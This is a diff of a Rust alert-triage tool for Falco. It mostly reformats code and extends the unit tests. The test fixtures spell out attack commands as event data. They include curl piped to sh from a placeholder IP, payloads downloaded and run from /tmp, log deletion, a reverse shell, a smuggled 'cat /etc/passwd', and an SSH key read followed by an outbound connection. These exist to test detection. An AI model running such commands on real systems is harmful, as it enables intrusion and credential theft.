@@ -178,9 +178,7 @@ fn round3(x: f64) -> f64 {
 }
 
 fn kind_of(id: &str) -> Kind {
-    signals::table()
-        .get(id)
-        .map_or(Kind::Attack, |s| s.kind)
+    signals::table().get(id).map_or(Kind::Attack, |s| s.kind)
 }
 
 /// A Falco JSON alert for a record: the alert line itself when it is one, else built
@@ -499,7 +497,10 @@ impl Triage<'_> {
             out.push(hit(
                 "history_real",
                 1.0,
-                vec![("real", p.real.to_string()), ("benign", p.benign.to_string())],
+                vec![
+                    ("real", p.real.to_string()),
+                    ("benign", p.benign.to_string()),
+                ],
             ));
         } else if p.benign > 0 {
             out.push(hit(
@@ -528,7 +529,13 @@ impl Triage<'_> {
         out
     }
 
-    fn signals_for(&self, rule: &str, records: &[Record], at: usize, sessions: &Sessions) -> Vec<Hit> {
+    fn signals_for(
+        &self,
+        rule: &str,
+        records: &[Record],
+        at: usize,
+        sessions: &Sessions,
+    ) -> Vec<Hit> {
         let mut out = Vec::new();
         let Some(r) = records.get(at) else { return out };
         let ev = &r.event;
@@ -620,9 +627,16 @@ impl Triage<'_> {
                 (Lang::Ja, 0) => "プロセス自身".to_string(),
                 (Lang::Ja, l) => format!("{l} 代前の親プロセス"),
             };
-            out.push(hit("dropped_binary", 1.0, vec![("whose", whose), ("path", path.clone())]));
+            out.push(hit(
+                "dropped_binary",
+                1.0,
+                vec![("whose", whose), ("path", path.clone())],
+            ));
         }
-        let service_shell = a.service_shell.as_ref().filter(|_| !allows("service_shell"));
+        let service_shell = a
+            .service_shell
+            .as_ref()
+            .filter(|_| !allows("service_shell"));
         if let Some((server, shell)) = service_shell {
             out.push(hit(
                 "service_shell",
@@ -638,7 +652,11 @@ impl Triage<'_> {
             out.push(hit("network_stdio", 1.0, vec![("what", what)]));
         }
         if let (true, Some(user)) = (a.tty, &a.system_account) {
-            out.push(hit("system_account_terminal", 1.0, vec![("user", user.clone())]));
+            out.push(hit(
+                "system_account_terminal",
+                1.0,
+                vec![("user", user.clone())],
+            ));
         }
         // A person at a terminal: a tty with a login or runtime exec entry, no service,
         // no service account, no network stdin, and nothing fetched, dropped or redirected
@@ -673,7 +691,11 @@ impl Triage<'_> {
                 });
             }
             let sep = if lang == Lang::Ja { "、" } else { ", " };
-            out.push(hit("interactive_session", 1.0, vec![("how", how.join(sep))]));
+            out.push(hit(
+                "interactive_session",
+                1.0,
+                vec![("how", how.join(sep))],
+            ));
         }
         if let Some((t, s)) = target_sensitivity(ev) {
             match s {
@@ -696,7 +718,11 @@ impl Triage<'_> {
                 out.push(hit(
                     "session_download",
                     1.0,
-                    vec![("when", when(c.before)), ("cmd", cmd.clone()), ("prog", p.clone())],
+                    vec![
+                        ("when", when(c.before)),
+                        ("cmd", cmd.clone()),
+                        ("prog", p.clone()),
+                    ],
                 ));
             }
         }
@@ -716,7 +742,11 @@ impl Triage<'_> {
                 out.push(hit(
                     "session_outbound",
                     1.0,
-                    vec![("addr", addr.clone()), ("prog", prog.clone()), ("when", when(c.before))],
+                    vec![
+                        ("addr", addr.clone()),
+                        ("prog", prog.clone()),
+                        ("when", when(c.before)),
+                    ],
                 ));
             }
         }
@@ -744,7 +774,11 @@ impl Triage<'_> {
         if !others.is_empty() {
             kinds.push("alerts");
             let sep = if lang == Lang::Ja { "、" } else { ", " };
-            let names: Vec<String> = others.iter().take(3).map(|(r, _)| format!("\"{r}\"")).collect();
+            let names: Vec<String> = others
+                .iter()
+                .take(3)
+                .map(|(r, _)| format!("\"{r}\""))
+                .collect();
             out.push(hit(
                 "session_other_alerts",
                 others.len().min(2) as f64,
@@ -1124,22 +1158,36 @@ mod tests {
             l(v)
         };
         let lines = vec![
-            mk(json!({"evt.type":"execve","evt.rawtime":100,"proc.name":"bash","proc.pname":"runc"})),
-            mk(json!({"evt.type":"execve","evt.rawtime":110,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"runc","proc.cmdline":"curl -so /tmp/k http://203.0.113.7/k"})),
-            mk(json!({"evt.type":"execve","evt.rawtime":120,"proc.name":"k","proc.exepath":"/tmp/k","proc.pname":"bash","proc.aname[2]":"runc"})),
-            mk(json!({"evt.type":"unlinkat","evt.rawtime":130,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"})),
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":100,"proc.name":"bash","proc.pname":"runc"}),
+            ),
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":110,"proc.name":"curl","proc.pname":"bash","proc.aname[2]":"runc","proc.cmdline":"curl -so /tmp/k http://203.0.113.7/k"}),
+            ),
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":120,"proc.name":"k","proc.exepath":"/tmp/k","proc.pname":"bash","proc.aname[2]":"runc"}),
+            ),
+            mk(
+                json!({"evt.type":"unlinkat","evt.rawtime":130,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}),
+            ),
         ];
         let r = verdict_of(&lines, "Clear Log Activities");
         assert_eq!(r.len(), 1);
         assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
-        assert!(!signals(&r[0]).contains(&"interactive_session"), "{:?}", signals(&r[0]));
+        assert!(
+            !signals(&r[0]).contains(&"interactive_session"),
+            "{:?}",
+            signals(&r[0])
+        );
         assert!(signals(&r[0]).contains(&"session_download"));
     }
 
     /// A reverse shell at a pty: the terminal is real but stdin is a socket.
     #[test]
     fn reverse_shell_at_a_pty_is_not_a_false_positive() {
-        let lines = vec![l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":301,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34818,"proc.pname":"bash","proc.aname[2]":"sshd","proc.stdin_type":"ipv4","fs.path.name":"/var/log/dpkg.log"}))];
+        let lines = vec![l(
+            json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":301,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34818,"proc.pname":"bash","proc.aname[2]":"sshd","proc.stdin_type":"ipv4","fs.path.name":"/var/log/dpkg.log"}),
+        )];
         let r = verdict_of(&lines, "Clear Log Activities");
         assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
         assert!(signals(&r[0]).contains(&"network_stdio"));
@@ -1158,19 +1206,28 @@ mod tests {
             l(v)
         };
         let lines = vec![
-            mk(json!({"evt.type":"execve","evt.rawtime":10,"proc.name":"wget","proc.pname":"bash","proc.aname[2]":"sshd","proc.cmdline":"wget http://198.51.100.4/x.tgz"})),
-            mk(json!({"evt.type":"unlinkat","evt.rawtime":20,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"})),
+            mk(
+                json!({"evt.type":"execve","evt.rawtime":10,"proc.name":"wget","proc.pname":"bash","proc.aname[2]":"sshd","proc.cmdline":"wget http://198.51.100.4/x.tgz"}),
+            ),
+            mk(
+                json!({"evt.type":"unlinkat","evt.rawtime":20,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
+            ),
         ];
         let r = verdict_of(&lines, "Clear Log Activities");
         assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
         let s = signals(&r[0]);
-        assert!(s.contains(&"system_account_terminal") && s.contains(&"session_download"), "{s:?}");
+        assert!(
+            s.contains(&"system_account_terminal") && s.contains(&"session_download"),
+            "{s:?}"
+        );
     }
 
     /// A web worker reading process environments through a shell.
     #[test]
     fn web_worker_reading_environments_is_not_a_false_positive() {
-        let lines = vec![l(json!({"evt.type":"openat","evt.rawres":3,"proc.sid":303,"evt.rawtime":5,"proc.name":"cat","proc.aname[1]":"sh","proc.aname[2]":"php-fpm","user.name":"www-data","user.uid":33,"fd.name":"/proc/1/environ"}))];
+        let lines = vec![l(
+            json!({"evt.type":"openat","evt.rawres":3,"proc.sid":303,"evt.rawtime":5,"proc.name":"cat","proc.aname[1]":"sh","proc.aname[2]":"php-fpm","user.name":"www-data","user.uid":33,"fd.name":"/proc/1/environ"}),
+        )];
         let r = verdict_of(&lines, "Read environ");
         assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
     }
@@ -1179,11 +1236,15 @@ mod tests {
     /// command under the same database still is.
     #[test]
     fn database_archive_command_is_not_likely_real() {
-        let ok = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":304,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c test ! -f /mnt/archive/0000000100000000000000A1 && cp pg_wal/0000000100000000000000A1 /mnt/archive/0000000100000000000000A1"}))];
+        let ok = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":304,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c test ! -f /mnt/archive/0000000100000000000000A1 && cp pg_wal/0000000100000000000000A1 /mnt/archive/0000000100000000000000A1"}),
+        )];
         let r = verdict_of(&ok, "Run shell untrusted");
         assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
         assert!(signals(&r[0]).contains(&"known_benign"));
-        let bad = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":305,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c curl -s http://203.0.113.9/pg_wal/x | sh"}))];
+        let bad = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":305,"evt.rawtime":5,"proc.name":"sh","proc.pname":"postgres","user.name":"postgres","user.uid":999,"proc.cmdline":"sh -c curl -s http://203.0.113.9/pg_wal/x | sh"}),
+        )];
         let r = verdict_of(&bad, "Run shell untrusted");
         assert!(!signals(&r[0]).contains(&"known_benign"), "{:#?}", r[0]);
         assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
@@ -1192,10 +1253,14 @@ mod tests {
     /// A web application sending mail: `sh -c sendmail` under php-fpm.
     #[test]
     fn web_app_mail_is_not_likely_real() {
-        let ok = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":306,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"}))];
+        let ok = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":306,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c /usr/sbin/sendmail -t -i"}),
+        )];
         let r = verdict_of(&ok, "Run shell untrusted");
         assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
-        let bad = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":307,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c sendmail x; cat /etc/passwd"}))];
+        let bad = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":307,"evt.rawtime":5,"proc.name":"sh","proc.pname":"php-fpm","proc.cmdline":"sh -c sendmail x; cat /etc/passwd"}),
+        )];
         let r = verdict_of(&bad, "Run shell untrusted");
         assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
     }
@@ -1204,16 +1269,24 @@ mod tests {
     #[test]
     fn build_tool_generated_binary_is_not_likely_real() {
         let lines = vec![
-            l(json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":308,"evt.rawtime":5,"proc.name":"link","proc.pname":"go","fd.name":"/tmp/go-build2291/b001/exe/main"})),
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":308,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/go-build2291/b001/exe/main","proc.pname":"go","proc.aname[2]":"bash"})),
+            l(
+                json!({"evt.type":"openat","evt.rawres":4,"evt.is_open_write":true,"fd.num":4,"proc.sid":308,"evt.rawtime":5,"proc.name":"link","proc.pname":"go","fd.name":"/tmp/go-build2291/b001/exe/main"}),
+            ),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":308,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/go-build2291/b001/exe/main","proc.pname":"go","proc.aname[2]":"bash"}),
+            ),
         ];
         let r = verdict_of(&lines, "Exec from tmp");
         assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
         assert!(!signals(&r[0]).contains(&"dropped_binary"));
         // The same path written by curl is dropped.
         let lines = vec![
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":4,"proc.name":"curl","proc.pname":"sh","proc.cmdline":"curl -o /tmp/x/main http://203.0.113.5/m"})),
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/x/main","proc.pname":"sh"})),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":4,"proc.name":"curl","proc.pname":"sh","proc.cmdline":"curl -o /tmp/x/main http://203.0.113.5/m"}),
+            ),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":309,"evt.rawtime":6,"proc.name":"main","proc.exepath":"/tmp/x/main","proc.pname":"sh"}),
+            ),
         ];
         let r = verdict_of(&lines, "Exec from tmp");
         assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
@@ -1222,7 +1295,9 @@ mod tests {
     /// A terminal helper probing the terminal in a person's session.
     #[test]
     fn terminal_probe_is_not_likely_real() {
-        let lines = vec![l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":310,"evt.rawtime":5,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34820,"proc.pname":"bash","proc.aname[2]":"sshd"}))];
+        let lines = vec![l(
+            json!({"evt.type":"execve","evt.rawres":0,"proc.sid":310,"evt.rawtime":5,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34820,"proc.pname":"bash","proc.aname[2]":"sshd"}),
+        )];
         let r = verdict_of(&lines, "Terminal probe");
         assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
     }
@@ -1230,9 +1305,15 @@ mod tests {
     /// A piped exec through the runtime (no tty) is not a person's session.
     #[test]
     fn piped_runtime_exec_is_not_interactive() {
-        let lines = vec![l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":311,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}))];
+        let lines = vec![l(
+            json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":311,"evt.rawtime":5,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc","fs.path.name":"/var/log/dpkg.log"}),
+        )];
         let r = verdict_of(&lines, "Clear Log Activities");
-        assert!(!signals(&r[0]).contains(&"interactive_session"), "{:#?}", r[0]);
+        assert!(
+            !signals(&r[0]).contains(&"interactive_session"),
+            "{:#?}",
+            r[0]
+        );
         assert_ne!(r[0].verdict, Verdict::LikelyFalsePositive);
     }
 
@@ -1241,12 +1322,18 @@ mod tests {
     #[test]
     fn mixed_cluster_is_split_by_verdict() {
         let op = |sid: i64, t: i64| {
-            l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":t,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}))
+            l(
+                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":sid,"evt.rawtime":t,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
+            )
         };
         let lines = vec![
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":400,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"})),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":400,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
+            ),
             op(400, 2),
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":401,"evt.rawtime":1,"proc.name":"curl","proc.cmdline":"curl -o /tmp/p http://203.0.113.1/p","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"})),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":401,"evt.rawtime":1,"proc.name":"curl","proc.cmdline":"curl -o /tmp/p http://203.0.113.1/p","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
+            ),
             op(401, 2),
         ];
         let r = verdict_of(&lines, "Clear Log Activities");
@@ -1258,7 +1345,11 @@ mod tests {
         assert_eq!(r[1].members, vec![3]);
         // A download in the session cancels the person's session.
         assert!(signals(&r[0]).contains(&"interactive_session"));
-        assert!(!signals(&r[1]).contains(&"interactive_session"), "{:#?}", r[1]);
+        assert!(
+            !signals(&r[1]).contains(&"interactive_session"),
+            "{:#?}",
+            r[1]
+        );
         assert!(r.iter().all(|c| c.cluster.len() == 12));
         // Ids are stable: the same input gives the same ids.
         let again = verdict_of(&lines, "Clear Log Activities");
@@ -1271,9 +1362,15 @@ mod tests {
     #[test]
     fn a_benign_sessions_alerts_do_not_count_against_each_other() {
         let lines = vec![
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"})),
-            l(json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":2,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"})),
-            l(json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":500,"evt.rawtime":3,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"})),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":1,"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd"}),
+            ),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":500,"evt.rawtime":2,"proc.name":"tput","proc.cmdline":"tput cols","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}),
+            ),
+            l(
+                json!({"evt.type":"unlinkat","evt.rawres":0,"proc.sid":500,"evt.rawtime":3,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log"}),
+            ),
         ];
         let refs: Vec<&str> = lines.iter().map(String::as_str).collect();
         let all = run(&refs, Lang::En, &History::empty());
@@ -1281,10 +1378,16 @@ mod tests {
         for c in &all {
             assert!(!signals(c).contains(&"session_other_alerts"), "{c:#?}");
         }
-        assert!(all.iter().all(|c| c.verdict == Verdict::LikelyFalsePositive), "{all:#?}");
+        assert!(
+            all.iter()
+                .all(|c| c.verdict == Verdict::LikelyFalsePositive),
+            "{all:#?}"
+        );
         let op = run(OPERATOR, Lang::En, &History::empty());
         assert!(signals(&op[0]).contains(&"session_quiet"), "{:#?}", op[0]);
-        let bare = [r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log","proc.sid":9}}"#];
+        let bare = [
+            r#"{"rule":"Clear Log Activities","output_fields":{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","fs.path.name":"/var/log/dpkg.log","proc.sid":9}}"#,
+        ];
         let r = run(&bare, Lang::En, &History::empty());
         assert!(!signals(&r[0]).contains(&"session_quiet"), "{:#?}", r[0]);
     }
@@ -1294,18 +1397,24 @@ mod tests {
     fn weights_come_from_the_table() {
         let r = run(OPERATOR, Lang::En, &History::empty());
         let mut w = signals::table().weights();
-        let base: f64 = r[0]
-            .features
-            .iter()
-            .map(|(id, f)| w[id.as_str()] * f)
-            .sum();
-        assert!((sigmoid(base) - r[0].score).abs() < 0.002, "{base} {}", r[0].score);
+        let base: f64 = r[0].features.iter().map(|(id, f)| w[id.as_str()] * f).sum();
+        assert!(
+            (sigmoid(base) - r[0].score).abs() < 0.002,
+            "{base} {}",
+            r[0].score
+        );
         w.insert("interactive_session".into(), 0.0);
         let e = engine();
         let recs = parse_records(&OPERATOR.join("\n"), "t").unwrap();
         let cat = Catalogue::builtin();
         let h = History::empty();
-        let t = Triage { engine: &e, catalogue: &cat, history: &h, lang: Lang::En, hostname: "h" };
+        let t = Triage {
+            engine: &e,
+            catalogue: &cat,
+            history: &h,
+            lang: Lang::En,
+            hostname: "h",
+        };
         let r2 = t.run_with(&recs, &w, &mut |_, _| {});
         assert!(r2[0].score < r[0].score);
     }
@@ -1321,7 +1430,13 @@ mod tests {
         let recs = parse_records(&lines.join("\n"), "t").unwrap();
         let cat = Catalogue::builtin();
         let h = History::empty();
-        let t = Triage { engine: &e, catalogue: &cat, history: &h, lang: Lang::En, hostname: "h" };
+        let t = Triage {
+            engine: &e,
+            catalogue: &cat,
+            history: &h,
+            lang: Lang::En,
+            hostname: "h",
+        };
         let a = t.run(&recs);
         let mut st = t.stream();
         for r in recs.iter().cloned() {
@@ -1331,7 +1446,10 @@ mod tests {
         let b = st.finish(&signals::table().weights(), &mut |_, _| {});
         assert_eq!(a.len(), b.len());
         for (x, y) in a.iter().zip(&b) {
-            assert_eq!((&x.cluster, x.verdict, x.score, &x.members), (&y.cluster, y.verdict, y.score, &y.members));
+            assert_eq!(
+                (&x.cluster, x.verdict, x.score, &x.members),
+                (&y.cluster, y.verdict, y.score, &y.members)
+            );
             assert_eq!(x.summary, y.summary);
         }
     }
@@ -1341,18 +1459,42 @@ mod tests {
     #[test]
     fn backup_agent_reading_keys_is_not_a_stealer() {
         let agent = vec![
-            l(json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":600,"evt.rawtime":5,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"})),
-            l(json!({"evt.type":"connect","evt.rawres":0,"proc.sid":600,"evt.rawtime":6,"proc.name":"restic","fd.name":"10.0.0.5:40000->203.0.113.20:9000"})),
+            l(
+                json!({"evt.type":"execve","evt.rawres":0,"proc.sid":600,"evt.rawtime":4,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","proc.cmdline":"restic backup /home"}),
+            ),
+            l(
+                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":600,"evt.rawtime":5,"proc.name":"restic","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
+            ),
+            l(
+                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":600,"evt.rawtime":6,"proc.name":"restic","fd.name":"10.0.0.5:40000->203.0.113.20:9000"}),
+            ),
         ];
         let r = verdict_of(&agent, "Read ssh");
         assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        let s = signals(&r[0]);
+        assert!(
+            !s.contains(&"target_sensitive")
+                && !s.contains(&"session_outbound")
+                && !s.contains(&"session_credentials"),
+            "{s:?}"
+        );
+        // The agent's alert alone (no other event of its run seen): not likely real.
+        let r = verdict_of(&agent[1..], "Read ssh");
+        assert_ne!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
         let thief = vec![
-            l(json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":601,"evt.rawtime":5,"proc.name":"cat","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"})),
-            l(json!({"evt.type":"connect","evt.rawres":0,"proc.sid":601,"evt.rawtime":6,"proc.name":"sh","fd.name":"10.0.0.5:40000->203.0.113.20:4444"})),
+            l(
+                json!({"evt.type":"openat","evt.rawres":3,"evt.is_open_read":true,"fd.num":3,"proc.sid":601,"evt.rawtime":5,"proc.name":"cat","proc.pname":"sh","proc.aname[2]":"cron","fd.name":"/home/ops/.ssh/id_ed25519"}),
+            ),
+            l(
+                json!({"evt.type":"connect","evt.rawres":0,"proc.sid":601,"evt.rawtime":6,"proc.name":"sh","fd.name":"10.0.0.5:40000->203.0.113.20:4444"}),
+            ),
         ];
         let r = verdict_of(&thief, "Read ssh");
         assert_eq!(r[0].verdict, Verdict::LikelyReal, "{:#?}", r[0]);
         let s = signals(&r[0]);
-        assert!(s.contains(&"target_sensitive") && s.contains(&"session_outbound"), "{s:?}");
+        assert!(
+            s.contains(&"target_sensitive") && s.contains(&"session_outbound"),
+            "{s:?}"
+        );
     }
 }
